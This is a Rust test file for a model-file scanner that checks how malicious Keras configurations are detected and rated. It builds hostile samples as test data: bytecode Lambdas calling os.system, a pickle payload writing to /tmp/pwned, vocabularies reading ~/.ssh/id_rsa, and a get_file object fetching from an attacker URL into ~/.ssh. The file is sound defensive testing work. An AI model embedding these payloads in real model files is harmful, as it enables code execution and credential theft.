//! Keras configurations: real `.keras` and `.h5` files written by Keras
//! (tests/fixtures/graphs/keras, see scripts/gen-graph-fixtures.py) and
//! configurations in testkit-built HDF5 files.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::format::Format;
use crate::formats::graphs::test_util::{
    base64, clean, fake_code_object, fixture, only, rules, scan, scan_with,
};
use crate::scan::ScanOptions;
use crate::severity::Severity;
use modelvet_testkit::hdf5::{keras_h5, Layout};
use serde_json::{json, Value};

fn h5(config: &Value) -> Vec<u8> {
    keras_h5(Layout::Earliest, &config.to_string())
}

fn sequential(layers: Vec<Value>) -> Value {
    json!({"class_name": "Sequential", "config": {"name": "seq", "layers": layers}})
}

fn dense() -> Value {
    json!({"module": "keras.layers", "class_name": "Dense", "config": {"units": 2, "activation": "relu"}, "registered_name": null})
}

#[test]
fn real_benign_keras_archive_is_clean() {
    let s = scan("model.keras", fixture!("keras/benign.keras"));
    assert_eq!(s.format, Some(Format::Keras));
    clean(&s);
    assert_eq!(s.facts["keras"]["keras_version"], "3.15.1");
    assert_eq!(s.facts["keras"]["layers"], 2);
    // The weights file was read too, nested.
    assert!(
        s.facts.contains_key("model.weights.h5:hdf5"),
        "{:?}",
        s.facts.keys()
    );
}

#[test]
fn real_lambda_keras_archive_is_critical() {
    let s = scan("model.keras", fixture!("keras/lambda.keras"));
    let f = only(&s, "keras-lambda-bytecode");
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.location.to_string(), "config.json: json /config/layers/2");
}

#[test]
fn real_keras_h5_files() {
    let s = scan("model.h5", fixture!("keras/benign.h5"));
    assert_eq!(s.format, Some(Format::Hdf5));
    clean(&s);
    assert_eq!(s.facts["keras"]["backend"], "jax");
    let s = scan("model.h5", fixture!("keras/lambda.h5"));
    assert_eq!(rules(&s), ["keras-lambda-bytecode"]);
}

#[test]
fn keras2_lambda_bytecode_is_critical_with_names_as_evidence() {
    let lambda = json!({"class_name": "Lambda", "config": {"name": "l", "function": [base64(&fake_code_object()), null, null], "function_type": "lambda", "module": "__main__"}});
    let s = scan("m.h5", &h5(&sequential(vec![dense(), lambda])));
    let f = only(&s, "keras-lambda-bytecode");
    assert_eq!(f.location.to_string(), "json /config/layers/1");
    assert_eq!(
        f.evidence.as_deref(),
        Some("names in the bytecode: os, system")
    );
}

#[test]
fn lambda_naming_a_function_is_high() {
    let lambda = json!({"class_name": "Lambda", "config": {"function": "preprocess", "function_type": "function", "module": "my_project.ops"}});
    let s = scan("m.h5", &h5(&sequential(vec![lambda])));
    let f = only(&s, "keras-lambda-layer");
    assert!(
        f.message.contains("my_project.ops.preprocess"),
        "{}",
        f.message
    );
}

#[test]
fn lambda_activation_object_is_found_anywhere() {
    let act = json!({"class_name": "__lambda__", "config": {"code": base64(&fake_code_object()), "defaults": null, "closure": null}});
    let layer = json!({"module": "keras.layers", "class_name": "Dense", "config": {"units": 2, "activation": act}});
    let s = scan("m.h5", &h5(&sequential(vec![layer])));
    let f = only(&s, "keras-lambda-bytecode");
    assert_eq!(
        f.location.to_string(),
        "json /config/layers/0/config/activation"
    );
}

#[test]
fn lambda_nested_in_an_inner_functional_model_is_found() {
    let lambda = json!({"class_name": "Lambda", "config": {"function": [base64(&fake_code_object()), null, null]}});
    let inner = json!({"class_name": "Functional", "config": {"layers": [dense(), lambda]}});
    let s = scan("m.h5", &h5(&sequential(vec![dense(), inner])));
    let f = only(&s, "keras-lambda-bytecode");
    assert_eq!(
        f.location.to_string(),
        "json /config/layers/1/config/layers/1"
    );
    assert_eq!(s.facts["keras"]["layers"], 4);
}

#[test]
fn dangerous_module_is_critical_other_modules_high_keras_none() {
    let evil = json!({"module": "os", "class_name": "system", "config": "id"});
    let s = scan("m.h5", &h5(&sequential(vec![evil])));
    assert_eq!(only(&s, "keras-module-import").severity, Severity::Critical);
    let third = json!({"module": "my_layers.blocks", "class_name": "Block", "config": {}});
    let s = scan("m.h5", &h5(&sequential(vec![third])));
    assert_eq!(only(&s, "keras-module-import").severity, Severity::High);
    let ours = json!({"module": "keras.src.models.functional", "class_name": "Functional", "config": {"layers": [dense()]}});
    clean(&scan("m.h5", &h5(&ours)));
}

#[test]
fn registered_custom_objects_are_medium() {
    let custom = json!({"module": "keras.layers", "class_name": "Attention2", "config": {}, "registered_name": "my_pkg>Attention2"});
    let s = scan("m.h5", &h5(&sequential(vec![custom])));
    let f = only(&s, "keras-custom-object");
    assert_eq!(f.severity, Severity::Medium);
    assert!(f.message.contains("my_pkg>Attention2"));
}

#[test]
fn named_functions_custom_or_dangerous_builtin() {
    let custom = json!({"module": "keras.layers", "class_name": "Dense", "config": {"activation": {"module": "builtins", "class_name": "function", "config": "my_act", "registered_name": "function"}}});
    let s = scan("m.h5", &h5(&sequential(vec![custom])));
    only(&s, "keras-custom-object");
    let evil = json!({"module": "keras.layers", "class_name": "Dense", "config": {"activation": {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}}});
    let s = scan("m.h5", &h5(&sequential(vec![evil])));
    assert_eq!(only(&s, "keras-module-import").severity, Severity::Critical);
}

#[test]
fn base64_that_is_not_bytecode_is_not_reported_as_bytecode() {
    // A Lambda whose function list holds base64 of text, not a code object.
    let lambda = json!({"class_name": "Lambda", "config": {"function": [base64(b"just some text, not code at all"), null, null]}});
    let s = scan("m.h5", &h5(&sequential(vec![lambda])));
    assert_eq!(rules(&s), ["keras-lambda-layer"]);
}

#[test]
fn malformed_config_is_reported() {
    let s = scan(
        "m.h5",
        &keras_h5(Layout::Earliest, "{\"class_name\": \"Sequential\", "),
    );
    only(&s, "keras-malformed-config");
}

#[test]
fn config_nesting_beyond_the_limit_fails_closed() {
    let mut v = dense();
    for _ in 0..20 {
        v = json!({"class_name": "Wrapper", "config": {"layer": v}});
    }
    let bytes = h5(&v);
    clean(&scan("m.h5", &bytes));
    let mut opts = ScanOptions::default();
    opts.limits.graphs.max_config_depth = 10;
    let s = scan_with("m.h5", &bytes, &opts);
    assert!(
        s.errors[0].message.contains("graphs.max_config_depth"),
        "{:?}",
        s.errors
    );
}

// --- Built-in classes judged by what they do while loading. The layer
// configurations below have the keys Keras 3.15's `get_config` writes
// (`IndexLookup.get_config`, `TFSMLayer.get_config`), with the argument an
// attacker sets changed.

fn lookup(class: &str, vocabulary: Value) -> Value {
    json!({"module": "keras.layers", "class_name": class, "config": {
        "name": "lookup", "trainable": true, "dtype": "int64", "invert": false,
        "max_tokens": null, "num_oov_indices": 1, "oov_token": "[UNK]", "mask_token": null,
        "output_mode": "int", "sparse": false, "pad_to_max_tokens": false,
        "idf_weights": null, "vocabulary": vocabulary, "vocabulary_size": 4,
        "encoding": "utf-8"}, "registered_name": null})
}

fn load_time(s: &crate::scan::ArtifactScan) -> &crate::finding::Finding {
    only(s, "keras-load-time-resource")
}

#[test]
fn lookup_vocabulary_file_outside_the_archive_is_high() {
    let s = scan(
        "m.h5",
        &h5(&sequential(vec![lookup(
            "StringLookup",
            json!("/home/u/.ssh/id_rsa"),
        )])),
    );
    let f = load_time(&s);
    assert_eq!(f.severity, Severity::High);
    assert!(f.message.contains("/home/u/.ssh/id_rsa"), "{}", f.message);
    assert!(f.message.contains("`vocabulary`"), "{}", f.message);
    assert_eq!(f.location.to_string(), "json /config/layers/0");
}

#[test]
fn lookup_vocabulary_url_is_critical_in_every_spelling() {
    // Keras 3 (`keras.layers`), a `keras.src` module path, Keras 2 (class
    // name only) and a registered name all rebuild the same layer.
    let url = json!("gs://attacker-bucket/vocab.txt");
    let mut keras3 = lookup("IntegerLookup", url.clone());
    let mut src = lookup("TextVectorization", url.clone());
    src["module"] = json!("keras.src.layers.preprocessing.text_vectorization");
    let mut keras2 = lookup("StringLookup", url.clone());
    keras2.as_object_mut().unwrap().remove("module");
    let mut registered = lookup("Layer", url.clone());
    registered["registered_name"] = json!("keras.layers.StringLookup");
    for layer in [&mut keras3, &mut src, &mut keras2, &mut registered] {
        let s = scan("m.h5", &h5(&sequential(vec![layer.clone()])));
        let f = load_time(&s);
        assert_eq!(f.severity, Severity::Critical, "{layer}");
        assert!(f.message.contains("the URL `gs://"), "{}", f.message);
    }
}

#[test]
fn inline_vocabulary_and_plain_layers_stay_clean() {
    let layer = lookup("StringLookup", json!(["a", "b", "c"]));
    clean(&scan("m.h5", &h5(&sequential(vec![layer, dense()]))));
    let none = lookup("IntegerLookup", Value::Null);
    clean(&scan("m.h5", &h5(&sequential(vec![none]))));
}

#[test]
fn tfsm_layer_loads_an_external_saved_model_critical() {
    let layer = json!({"module": "keras.layers", "class_name": "TFSMLayer", "config": {
        "name": "tfsm", "trainable": false, "dtype": "float32",
        "filepath": "/tmp/exported", "call_endpoint": "serve", "call_training_endpoint": null},
        "registered_name": null});
    let s = scan("m.h5", &h5(&sequential(vec![layer])));
    let f = load_time(&s);
    assert_eq!(f.severity, Severity::Critical);
    assert!(
        f.message.contains("SavedModel `/tmp/exported`"),
        "{}",
        f.message
    );
}

#[test]
fn torch_module_wrapper_pickle_is_critical() {
    let layer = json!({"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {
        "name": "torch_module_wrapper", "module": base64(b"PK\x03\x04 pickled module"),
        "output_shape": null}, "registered_name": null});
    let s = scan("m.h5", &h5(&sequential(vec![layer])));
    assert_eq!(load_time(&s).severity, Severity::Critical);
    // The module bytes are what `torch.load` unpickles: they are scanned,
    // and the finding names the call the pickle makes.
    let payload = modelvet_testkit::pickle::os_system(2, "id > /tmp/pwned");
    let layer = json!({"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {
        "name": "torch_module_wrapper", "module": base64(&payload), "output_shape": null},
        "registered_name": null});
    let s = scan("m.h5", &h5(&sequential(vec![layer])));
    assert_eq!(load_time(&s).severity, Severity::Critical);
    let call = s
        .findings
        .iter()
        .find(|f| f.rule_id.starts_with("pickle-") && f.severity == Severity::Critical)
        .unwrap_or_else(|| panic!("the module's pickle was not scanned: {:#?}", s.findings));
    assert!(call.message.contains("system"), "{}", call.message);
}

#[test]
fn keras_functions_with_effects_are_critical_whatever_the_module_spelling() {
    for (module, name) in [
        ("keras.utils", "get_file"),
        ("keras.src.utils.file_utils", "get_file"),
        ("keras.config", "enable_unsafe_deserialization"),
        ("keras.saving", "load_model"),
    ] {
        let f = json!({"module": module, "class_name": "function", "config": name, "registered_name": "function"});
        let layer = json!({"module": "keras.layers", "class_name": "Dense", "config": {"units": 2, "activation": f}});
        let s = scan("m.h5", &h5(&sequential(vec![layer])));
        let found = load_time(&s);
        assert_eq!(found.severity, Severity::Critical, "{module}.{name}");
        assert!(found.message.contains(name), "{}", found.message);
    }
    // The CVE-2025-8747 shape: get_file as an object with its arguments.
    let obj = json!({"module": "keras.utils", "class_name": "get_file", "config": {
        "fname": "x", "origin": "https://attacker.invalid/payload", "cache_dir": "/home/u/.ssh"}});
    let s = scan("m.h5", &h5(&sequential(vec![obj])));
    let rules = rules(&s);
    assert!(
        rules.iter().all(|r| *r == "keras-load-time-resource"),
        "{rules:?}"
    );
    assert!(s.findings.iter().any(|f| f.severity == Severity::Critical
        && f.message.contains("https://attacker.invalid/payload")));
    // A keras function without effects stays clean.
    let relu = json!({"module": "keras.activations", "class_name": "function", "config": "relu", "registered_name": "function"});
    let layer = json!({"module": "keras.layers", "class_name": "Dense", "config": {"units": 2, "activation": relu}});
    clean(&scan("m.h5", &h5(&sequential(vec![layer]))));
}

#[test]
fn path_arguments_of_any_layer_are_reported() {
    let layer = json!({"module": "keras.layers", "class_name": "Embedding", "config": {
        "input_dim": 4, "output_dim": 2,
        "embeddings_initializer": {"module": "keras.initializers", "class_name": "Constant",
            "config": {"filepath": "../../secrets/weights.npy"}}}});
    let s = scan("m.h5", &h5(&sequential(vec![layer])));
    let f = load_time(&s);
    assert_eq!(f.severity, Severity::High);
    assert_eq!(
        f.location.to_string(),
        "json /config/layers/0/config/embeddings_initializer"
    );
}

// --- Configurations that Python's json reads and serde_json did not.

fn keras_zip(config: &[u8]) -> Vec<u8> {
    modelvet_testkit::zip::ZipBuilder::new()
        .deflated("metadata.json", br#"{"keras_version": "3.15.1"}"#)
        .deflated("config.json", config)
        .build()
}

fn lambda() -> Value {
    json!({"class_name": "Lambda", "config": {"function": [base64(&fake_code_object()), null, null]}})
}

#[test]
fn lambda_nested_deeper_than_serde_json_reads_is_found() {
    // 1,400 levels: over serde_json's 128 and under Python 3.12's 1,497.
    let mut text = String::new();
    for _ in 0..700 {
        text.push_str(r#"{"class_name": "Wrapper", "config": {"layer": "#);
    }
    text.push_str(&lambda().to_string());
    text.push_str(&"}}".repeat(700));
    let s = scan("m.keras", &keras_zip(text.as_bytes()));
    let f = only(&s, "keras-lambda-bytecode");
    assert!(
        f.location
            .to_string()
            .starts_with("config.json: json /config/layer/config/layer"),
        "{}",
        f.location
    );
    assert!(s.errors.is_empty(), "{:?}", s.errors);
}

#[test]
fn config_deeper_than_the_reader_fails_closed_high() {
    let depth = crate::formats::json::MAX_JSON_DEPTH + 1;
    let text = format!("{}{}{}", "[".repeat(depth), lambda(), "]".repeat(depth));
    let s = scan("m.keras", &keras_zip(text.as_bytes()));
    let f = only(&s, "keras-malformed-config");
    assert_eq!(f.severity, Severity::High);
    assert!(f.message.contains("nest deeper"), "{}", f.message);
}

#[test]
fn utf16_config_and_nan_are_read_as_python_reads_them() {
    // json.loads(bytes) detects UTF-16 and reads NaN; Keras loads both.
    let config = sequential(vec![dense(), lambda()])
        .to_string()
        .replace(r#""units":2"#, r#""units":NaN"#);
    assert!(config.contains("NaN"));
    let utf16: Vec<u8> = config.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let s = scan("m.keras", &keras_zip(&utf16));
    only(&s, "keras-lambda-bytecode");
}

#[test]
fn duplicate_keys_last_one_wins_as_in_python() {
    // Python's dict keeps the last `class_name`: this is a Lambda to Keras.
    let text = format!(
        r#"{{"class_name": "Sequential", "config": {{"layers": [{{"class_name": "Dense", "class_name": "Lambda", "config": {}}}]}}}}"#,
        lambda()["config"]
    );
    let s = scan("m.keras", &keras_zip(text.as_bytes()));
    only(&s, "keras-lambda-bytecode");
}

#[test]
fn real_lookup_archives_assets_clean_edited_path_high() {
    // scripts/gen-graph-fixtures.py --keras-lookup: Keras 3.15 saves the
    // vocabulary in assets/ (clean); the copy with `vocabulary` edited to
    // /etc/hostname is what Keras 3.15 refuses in safe mode (checked by the
    // script) and older Keras reads.
    let s = scan("m.keras", fixture!("keras/lookup-assets.keras"));
    clean(&s);
    assert_eq!(s.facts["keras"]["class_names"]["StringLookup"], 1);
    let s = scan("m.keras", fixture!("keras/lookup-path.keras"));
    let f = load_time(&s);
    assert_eq!(f.severity, Severity::High);
    assert!(f.message.contains("`/etc/hostname`"), "{}", f.message);
    assert_eq!(f.location.to_string(), "config.json: json /config/layers/1");
}

use super::*;

#[test]
fn token_escapes() {
    assert_eq!(token("a/b~c"), "a~1b~0c");
}

#[test]
fn trusted_modules() {
    assert!(is_trusted_module("keras.layers"));
    assert!(is_trusted_module("keras"));
    assert!(!is_trusted_module("kerasx"));
    assert!(!is_trusted_module("os"));
}
